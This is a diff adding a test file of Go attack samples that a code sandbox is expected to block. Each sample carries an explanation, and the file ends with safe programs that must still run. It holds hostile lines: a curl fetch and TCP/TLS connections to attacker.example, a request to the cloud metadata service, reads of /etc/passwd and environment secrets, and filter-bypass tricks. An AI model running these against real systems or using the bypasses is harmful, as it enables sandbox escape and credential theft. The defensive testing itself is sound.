@@ -0,0 +1,842 @@
+/**
+ * Go Security Attack Vectors
+ *
+ * A Go program reaches the host through a handful of standard packages:
+ * os/exec and os.StartProcess for processes, syscall and cgo for the
+ * kernel and native code, net for the network, and the file and
+ * environment functions of os. Go also lets an import take any local
+ * name - including "." - so the policy matches import PATHS, which
+ * cannot be renamed, rather than the identifiers a file happens to use.
+ *
+ * Each test includes:
+ * - name: Test identifier
+ * - code: The malicious code attempt
+ * - expectBlocked: Whether this should be blocked (true) or allowed (false)
+ * - category: Attack category for grouping
+ * - explanation: Human-readable description of how hackers use this attack
+ */
+
+export const goTests = [
+  // ════════════════════════════════════════════════════════════════
+  // COMMAND / PROCESS EXECUTION
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: exec.Command shell',
+    code: `package main
+
+import (
+	"fmt"
+	"os/exec"
+)
+
+func main() {
+	out, _ := exec.Command("/bin/sh", "-c", "id").Output()
+	fmt.Println(string(out))
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Shell Command Execution
+
+      How hackers use this:
+      os/exec is how a Go program starts other programs. With
+      /bin/sh as the program, any shell command runs with the
+      service's permissions.
+
+      Real-world impact:
+      - Reverse shells and lateral movement
+      - Reading secrets such as SSH keys and tokens
+      - Installing miners or backdoors on the host
+    `,
+  },
+  {
+    name: 'Go: exec imported under another name',
+    code: `package main
+
+import run "os/exec"
+
+func main() {
+	run.Command("curl", "http://attacker.example/x.sh").Run()
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Renamed Import
+
+      How hackers use this:
+      Go lets an import take any local name. A filter looking for
+      "exec.Command" misses "run.Command" - so the policy matches
+      the import path itself, which cannot be renamed.
+    `,
+  },
+  {
+    name: 'Go: os.StartProcess',
+    code: `package main
+
+import "os"
+
+func main() {
+	attr := &os.ProcAttr{Files: []*os.File{os.Stdin, os.Stdout, os.Stderr}}
+	os.StartProcess("/bin/sh", []string{"sh", "-c", "whoami"}, attr)
+}`,
+    expectBlocked: true,
+    category: 'command_execution',
+    explanation: `
+      🎯 ATTACK: Low-Level Process Start
+
+      How hackers use this:
+      os.StartProcess starts a program without importing os/exec
+      at all. An attacker who knows the first door is watched
+      simply uses the second.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // RAW SYSTEM CALLS AND NATIVE CODE
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: syscall.Exec',
+    code: `package main
+
+import "syscall"
+
+func main() {
+	syscall.Exec("/bin/sh", []string{"sh", "-c", "id"}, nil)
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Raw System Calls
+
+      How hackers use this:
+      The syscall package talks to the kernel directly. Exec
+      replaces the running program with a shell, and the same
+      package can open sockets and files below every Go API.
+    `,
+  },
+  {
+    name: 'Go: golang.org/x/sys/unix',
+    code: `package main
+
+import "golang.org/x/sys/unix"
+
+func main() {
+	unix.Kill(1, unix.SIGKILL)
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Extended System Call Package
+
+      How hackers use this:
+      golang.org/x/sys is the maintained successor to syscall,
+      with even more of the kernel exposed. It is not in the
+      standard library, so builds here cannot fetch it anyway -
+      but the policy refuses it by name so the reason is clear.
+    `,
+  },
+  {
+    name: 'Go: cgo calling C',
+    code: `package main
+
+// #include <stdlib.h>
+import "C"
+
+func main() {
+	C.system(C.CString("id"))
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Calling C Through cgo
+
+      How hackers use this:
+      import "C" lets a Go file call any C function - system(),
+      raw memory, anything libc offers. cgo is switched off for
+      builds here, and the import is refused before it gets that
+      far.
+    `,
+  },
+  {
+    name: 'Go: #cgo linker flags',
+    code: `package main
+
+// #cgo LDFLAGS: -Wl,--wrap=main
+import "fmt"
+
+func main() {
+	fmt.Println("hi")
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Build Flags in a Comment
+
+      How hackers use this:
+      A #cgo comment passes flags straight to the C compiler and
+      linker - flags that have run arbitrary plugins in past
+      toolchain vulnerabilities. It is refused even without
+      import "C".
+    `,
+  },
+  {
+    name: 'Go: go:linkname into the runtime',
+    code: `package main
+
+import _ "unsafe"
+
+//go:linkname nanotime runtime.nanotime
+func nanotime() int64
+
+func main() {
+	println(nanotime())
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Reaching Private Functions
+
+      How hackers use this:
+      //go:linkname binds a local name to a private function in
+      another package, skipping every rule about what a package
+      may export. It is how code reaches runtime internals that
+      were never meant to be called.
+    `,
+  },
+  {
+    name: 'Go: plugin.Open',
+    code: `package main
+
+import "plugin"
+
+func main() {
+	p, _ := plugin.Open("/tmp/evil.so")
+	p.Lookup("Run")
+}`,
+    expectBlocked: true,
+    category: 'native_code',
+    explanation: `
+      🎯 ATTACK: Loading a Shared Library
+
+      How hackers use this:
+      The plugin package loads a compiled .so file into the
+      running program. Whatever that library does, it does with
+      the program's permissions.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // UNSAFE MEMORY
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: unsafe.Pointer memory write',
+    code: `package main
+
+import (
+	"fmt"
+	"unsafe"
+)
+
+func main() {
+	s := "read-only"
+	p := (*[9]byte)(unsafe.Pointer(unsafe.StringData(s)))
+	p[0] = 'R'
+	fmt.Println(s)
+}`,
+    expectBlocked: true,
+    category: 'unsafe_memory',
+    explanation: `
+      🎯 ATTACK: Unsafe Memory Access
+
+      How hackers use this:
+      unsafe.Pointer turns any address into any type. That
+      removes the bounds checks and type rules that make Go
+      memory-safe, so a program can read or overwrite memory it
+      was never given.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // NETWORK
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: net.Dial reverse shell',
+    code: `package main
+
+import "net"
+
+func main() {
+	conn, _ := net.Dial("tcp", "attacker.example:4444")
+	conn.Write([]byte("connected"))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: Outbound Connection
+
+      How hackers use this:
+      net.Dial opens a TCP connection to any host. Paired with a
+      shell it is a reverse shell; on its own it sends out
+      whatever the program can read.
+    `,
+  },
+  {
+    name: 'Go: net/http GET',
+    code: `package main
+
+import (
+	"fmt"
+	"net/http"
+)
+
+func main() {
+	resp, _ := http.Get("http://169.254.169.254/latest/meta-data/")
+	fmt.Println(resp.Status)
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: Server-Side Request Forgery
+
+      How hackers use this:
+      An HTTP request from inside a cloud host can reach the
+      metadata service at 169.254.169.254 and read the machine's
+      credentials. net/http makes that one line.
+    `,
+  },
+  {
+    name: 'Go: net/http server',
+    code: `package main
+
+import "net/http"
+
+func main() {
+	http.ListenAndServe(":8080", http.FileServer(http.Dir("/")))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: Opening a Listening Port
+
+      How hackers use this:
+      A file server on / publishes the whole filesystem to
+      anyone who can reach the port - a backdoor that looks like
+      an ordinary web app.
+    `,
+  },
+  {
+    name: 'Go: crypto/tls dial',
+    code: `package main
+
+import "crypto/tls"
+
+func main() {
+	conn, _ := tls.Dial("tcp", "attacker.example:443", &tls.Config{})
+	conn.Write([]byte("exfil"))
+}`,
+    expectBlocked: true,
+    category: 'network',
+    explanation: `
+      🎯 ATTACK: Encrypted Exfiltration
+
+      How hackers use this:
+      crypto/tls opens its own connections, so it is a second
+      route to the network that never mentions "net". Encrypted
+      traffic also hides what is being sent.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // FILE SYSTEM
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: os.ReadFile /etc/passwd',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	data, _ := os.ReadFile("/etc/passwd")
+	fmt.Println(string(data))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Reading System Files
+
+      How hackers use this:
+      Reading /etc/passwd lists the accounts on the host. The
+      same call reads configuration files, keys and other
+      students' work.
+    `,
+  },
+  {
+    name: 'Go: os.WriteFile',
+    code: `package main
+
+import "os"
+
+func main() {
+	os.WriteFile("/tmp/.hidden", []byte("payload"), 0755)
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Dropping a File
+
+      How hackers use this:
+      Writing an executable file is the first step of most
+      persistence tricks: drop a payload now, run it later from
+      somewhere else.
+    `,
+  },
+  {
+    name: 'Go: os.Open held as a function value',
+    code: `package main
+
+import "os"
+
+func main() {
+	open := os.Open
+	f, _ := open("/proc/self/environ")
+	f.Close()
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Calling Through a Variable
+
+      How hackers use this:
+      A filter that looks for "os.Open(" misses a function stored
+      in a variable and called later. The policy matches the name
+      without needing the parenthesis.
+    `,
+  },
+  {
+    name: 'Go: os imported under another name',
+    code: `package main
+
+import sys "os"
+
+func main() {
+	sys.Remove("main.go")
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Renaming the os Package
+
+      How hackers use this:
+      Every file rule is written as "os.Something". Importing os
+      as "sys" would walk straight past all of them, so a renamed
+      or dot import of os is refused by itself.
+    `,
+  },
+  {
+    name: 'Go: dot import of os',
+    code: `package main
+
+import (
+	"fmt"
+	. "os"
+)
+
+func main() {
+	data, _ := ReadFile("/etc/hostname")
+	fmt.Println(string(data))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Dot Import
+
+      How hackers use this:
+      A dot import puts every name from os into the file, so
+      ReadFile can be called with no package in front of it at
+      all.
+    `,
+  },
+  {
+    name: 'Go: io/ioutil',
+    code: `package main
+
+import (
+	"fmt"
+	"io/ioutil"
+)
+
+func main() {
+	files, _ := ioutil.ReadDir("/home")
+	fmt.Println(len(files))
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: The Old File API
+
+      How hackers use this:
+      io/ioutil is the older home of ReadFile, WriteFile and
+      ReadDir. Blocking only the os versions would leave these
+      open.
+    `,
+  },
+  {
+    name: 'Go: filepath.Walk',
+    code: `package main
+
+import (
+	"fmt"
+	"io/fs"
+	"path/filepath"
+)
+
+func main() {
+	filepath.Walk("/", func(p string, info fs.FileInfo, err error) error {
+		fmt.Println(p)
+		return nil
+	})
+}`,
+    expectBlocked: true,
+    category: 'file_system',
+    explanation: `
+      🎯 ATTACK: Mapping the Filesystem
+
+      How hackers use this:
+      Walking the tree from / lists every file the program can
+      see - the reconnaissance step before deciding what to
+      steal.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENVIRONMENT AND IDENTITY
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: os.Getenv secrets',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	fmt.Println(os.Getenv("AWS_SECRET_ACCESS_KEY"))
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Reading Environment Secrets
+
+      How hackers use this:
+      Services keep API keys and passwords in environment
+      variables. One Getenv prints them.
+    `,
+  },
+  {
+    name: 'Go: os.Environ dump',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	for _, kv := range os.Environ() {
+		fmt.Println(kv)
+	}
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Dumping the Whole Environment
+
+      How hackers use this:
+      Environ lists every variable at once, so the attacker does
+      not even need to guess the names.
+    `,
+  },
+  {
+    name: 'Go: os.Hostname',
+    code: `package main
+
+import (
+	"fmt"
+	"os"
+)
+
+func main() {
+	name, _ := os.Hostname()
+	fmt.Println(name)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Host Reconnaissance
+
+      How hackers use this:
+      The hostname often names the cluster, the region or the
+      customer - useful for choosing the next target.
+    `,
+  },
+  {
+    name: 'Go: os/user',
+    code: `package main
+
+import (
+	"fmt"
+	"os/user"
+)
+
+func main() {
+	u, _ := user.Current()
+	fmt.Println(u.Username, u.HomeDir)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Identity Lookup
+
+      How hackers use this:
+      os/user reveals which account the program runs as and
+      where its home directory is - the two facts an attacker
+      needs before looking for keys.
+    `,
+  },
+  {
+    name: 'Go: runtime/debug limits',
+    code: `package main
+
+import "runtime/debug"
+
+func main() {
+	debug.SetMaxStack(1 << 40)
+	debug.SetGCPercent(-1)
+}`,
+    expectBlocked: true,
+    category: 'system_access',
+    explanation: `
+      🎯 ATTACK: Turning Off Runtime Limits
+
+      How hackers use this:
+      runtime/debug can raise the stack limit and switch off the
+      garbage collector, undoing the memory ceiling the service
+      sets so one program can starve the others.
+    `,
+  },
+  {
+    name: 'Go: signal.Ignore',
+    code: `package main
+
+import (
+	"os/signal"
+	"syscall"
+	"time"
+)
+
+func main() {
+	signal.Ignore(syscall.SIGTERM)
+	time.Sleep(time.Hour)
+}`,
+    expectBlocked: true,
+    category: 'signal_handling',
+    explanation: `
+      🎯 ATTACK: Ignoring the Stop Signal
+
+      How hackers use this:
+      A program that ignores SIGTERM tries to outlive the Stop
+      button. The timeout still ends it with SIGKILL, but the
+      attempt is refused up front.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // ENCODING BYPASS
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: exec path in a raw string',
+    code: `package main
+
+import (
+	"fmt"
+	exe \`os/exec\`
+)
+
+func main() {
+	fmt.Println(exe.Command("id"))
+}`,
+    expectBlocked: true,
+    category: 'encoding_bypass',
+    explanation: `
+      🎯 ATTACK: Raw-String Import Path
+
+      How hackers use this:
+      Go accepts an import path written in backquotes as well as
+      double quotes. A filter that only knows one quote style is
+      bypassed by the other.
+    `,
+  },
+  // ════════════════════════════════════════════════════════════════
+  // SAFE CODE (should NOT be blocked)
+  // ════════════════════════════════════════════════════════════════
+  {
+    name: 'Go: Safe print',
+    code: `package main
+
+import "fmt"
+
+func main() {
+	fmt.Println("Hello, World!")
+}`,
+    expectBlocked: false,
+    expectedOutput: 'Hello, World!',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Basic Output
+
+      fmt.Println writes to the console and nothing else.
+      Ordinary programs must keep working.
+    `,
+  },
+  {
+    name: 'Go: Safe reading input',
+    code: `package main
+
+import (
+	"bufio"
+	"fmt"
+	"os"
+)
+
+func main() {
+	scanner := bufio.NewScanner(os.Stdin)
+	for scanner.Scan() {
+		fmt.Println("got:", scanner.Text())
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Reading the Console
+
+      os.Stdin is how a Go program reads what the student types,
+      so a plain import of os must stay allowed - only its file,
+      process and environment functions are refused.
+    `,
+  },
+  {
+    name: 'Go: Safe strings and strconv',
+    code: `package main
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+func main() {
+	n, err := strconv.Atoi("42")
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	fmt.Println(strings.Repeat("*", n%5), n*2)
+}`,
+    expectBlocked: false,
+    expectedOutput: '** 84',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Text and Numbers
+
+      The text and conversion packages are pure computation.
+    `,
+  },
+  {
+    name: 'Go: Safe goroutines and channels',
+    code: `package main
+
+import (
+	"fmt"
+	"sync"
+)
+
+func main() {
+	var wg sync.WaitGroup
+	results := make(chan int, 3)
+	for i := 1; i <= 3; i++ {
+		wg.Add(1)
+		go func(n int) {
+			defer wg.Done()
+			results <- n * n
+		}(i)
+	}
+	wg.Wait()
+	close(results)
+	for r := range results {
+		fmt.Println(r)
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Concurrency
+
+      Goroutines and channels are the heart of Go and do not
+      touch the host.
+    `,
+  },
+  {
+    name: 'Go: Safe URL parsing',
+    code: `package main
+
+import (
+	"fmt"
+	"net/url"
+)
+
+func main() {
+	u, _ := url.Parse("https://example.com/path?q=go")
+	fmt.Println(u.Host, u.Query().Get("q"))
+}`,
+    expectBlocked: false,
+    expectedOutput: 'example.com go',
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Parsing a URL
+
+      net/url only takes a string apart - it never opens a
+      connection - so it is the one net package left allowed.
+    `,
+  },
+  {
+    name: 'Go: Safe errors and os.Exit',
+    code: `package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+)
+
+func divide(a, b int) (int, error) {
+	if b == 0 {
+		return 0, errors.New("division by zero")
+	}
+	return a / b, nil
+}
+
+func main() {
+	if _, err := divide(1, 0); err != nil {
+		fmt.Println("error:", err)
+		os.Exit(1)
+	}
+}`,
+    expectBlocked: false,
+    category: 'safe_code',
+    explanation: `
+      ✅ SAFE: Errors and Exit Codes
+
+      Returning errors and ending with os.Exit(1) is how Go
+      programs report failure; neither reaches outside the
+      program.
+    `,
+  },
+];